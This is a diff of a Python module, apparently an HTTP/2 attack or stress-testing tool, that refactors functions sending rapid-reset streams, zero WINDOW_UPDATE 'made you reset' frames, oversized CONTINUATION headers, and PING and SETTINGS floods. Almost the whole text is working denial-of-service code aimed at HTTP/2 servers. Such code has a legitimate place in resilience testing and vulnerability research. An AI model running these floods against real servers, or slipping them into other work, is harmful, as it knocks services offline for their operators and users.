@@ -82,8 +82,17 @@ def headers(stream, method=SCORE, *more, flags=h2.END_HEADERS):
     return h2.frame(h2.HEADERS, flags, stream, block)
 
 
-def reset_streams(attack, count, end_of_stream, body):
-    """`count` streams, each begun and ended at once, over as many connections, one after another, as it takes."""
+# A PING answered, or GOAWAY: everything before it has been parsed.
+PING = h2.frame(h2.PING, payload=b"attacker")
+
+
+def answered(connection, pings=1):
+    return connection.pongs >= pings or connection.goaway is not None
+
+
+def reset_streams(attack, count, kind, payload):
+    """`count` streams, each begun and, by a frame of this kind, reset at once, over as many connections, one after
+    another, as it takes."""
     encoder = hpack.Encoder()
     first = encoder.encode(h2.call_headers(SCORE), huffman=False)
     later = encoder.encode(h2.call_headers(SCORE), huffman=False)  # every header from the table: some ten bytes
@@ -95,26 +104,23 @@ def reset_streams(attack, count, end_of_stream, body):
             batch = []
             for _ in range(min(50, count - attack.sent)):
                 batch.append(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, first if stream == 1 else later))
-                batch.append(body(stream) + end_of_stream(stream))
+                batch.append(h2.data(stream, h2.message(b""), end=True) + h2.frame(kind, 0, stream, payload))
                 stream += 2
                 attack.sent += 1
             connection.send(b"".join(batch))
         if connection:
-            # A PING answered: everything before it has been parsed.
-            connection.send(h2.frame(h2.PING, payload=b"attacker"), seconds=5)
-            connection.wait(lambda me: me.frames[h2.PING] or me.goaway is not None, attack.until - time.monotonic())
+            connection.send(PING, seconds=5)
+            connection.wait(answered, attack.until - time.monotonic())
             attack.done(connection)
 
 
 def rapid_reset(attack, count):
-    reset_streams(attack, count, lambda stream: h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL)),
-                  lambda stream: h2.data(stream, h2.message(b""), end=True))
+    reset_streams(attack, count, h2.RST_STREAM, struct.pack(">I", h2.CANCEL))
 
 
 def made_you_reset(attack, count):
     """As rapid_reset, but it is the server that resets: a WINDOW_UPDATE of 0 is an error of the stream."""
-    reset_streams(attack, count, lambda stream: h2.frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)),
-                  lambda stream: h2.data(stream, h2.message(b""), end=True))
+    reset_streams(attack, count, h2.WINDOW_UPDATE, struct.pack(">I", 0))
 
 
 def huge_header(attack, count):
@@ -127,9 +133,8 @@ def huge_header(attack, count):
         if not (attack.in_time() and connection.send(piece)):
             break
         attack.sent += 16384
-    # Its end is a PING answered: everything before it has been parsed.
-    connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1) + h2.frame(h2.PING, payload=b"attacker"))
-    connection.wait(lambda me: me.frames[h2.PING] or me.goaway is not None, attack.until - time.monotonic())
+    connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1) + PING)
+    connection.wait(answered, attack.until - time.monotonic())
 
 
 def flood(attack, count, piece, before=b"", after=b""):
@@ -140,9 +145,8 @@ def flood(attack, count, piece, before=b"", after=b""):
         if not connection.send(piece * 200, seconds=5):
             break
         attack.sent += 200
-    pings = connection.frames[h2.PING]
-    connection.send(after + h2.frame(h2.PING, payload=b"the last"), seconds=5)
-    connection.wait(lambda me: me.frames[h2.PING] > pings or me.goaway is not None, 5)
+    connection.send(after + PING, seconds=5)
+    connection.wait(lambda me: answered(me, 1 + attack.sent * (piece == PING)), 5)
     if connection.goaway is not None:
         connection.wait_closed(2)
 
@@ -158,7 +162,7 @@ def empty_continuation_flood(attack, count):
 
 
 def ping_flood(attack, count):
-    flood(attack, count, h2.frame(h2.PING, payload=b"attacker"))
+    flood(attack, count, PING)
 
 
 def settings_flood(attack, count):
